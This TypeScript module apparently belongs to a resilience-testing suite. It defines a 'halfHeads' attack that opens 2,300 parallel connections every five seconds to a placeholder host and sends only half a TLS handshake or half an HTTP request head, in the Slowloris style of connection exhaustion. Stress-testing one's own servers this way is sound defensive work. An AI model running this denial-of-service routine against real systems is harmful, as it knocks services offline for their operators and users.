import { type Attack, attempts } from './attack.ts';
import type { Held } from './client.ts';

/** More than nginx has. */
const CONNECTIONS = 2_300;

const HEAD = 'GET /health HTTP/1.1\r\nHost: skillgap.example\r\n';

/** The record of a TLS handshake that announces a ClientHello of 200 bytes, and the first of them. */
const HELLO = Uint8Array.of(22, 3, 1, 0, 200, 1, 0, 0, 196, 3, 3);

/** Where a connection stops: before its handshake is complete, after it, or on the port without one. */
const HALVES: readonly Held[] = [
  { port: 443, bytes: HELLO },
  { port: 443, secure: true, bytes: HEAD },
  { port: 80, bytes: HEAD },
];

/** Class 4, one layer below: connections that send half of a handshake or of a request's head, as many as get in. */
export const halfHeads: Attack = {
  name: 'thousands of connections with half a handshake or half a request',
  async run(attacker) {
    await attempts(attacker, { parallel: CONNECTIONS, everyMs: 5_000 }, (_, turn) =>
      attacker.client.hold(HALVES[turn % HALVES.length] ?? { port: 80, bytes: HEAD }),
    );
  },
};
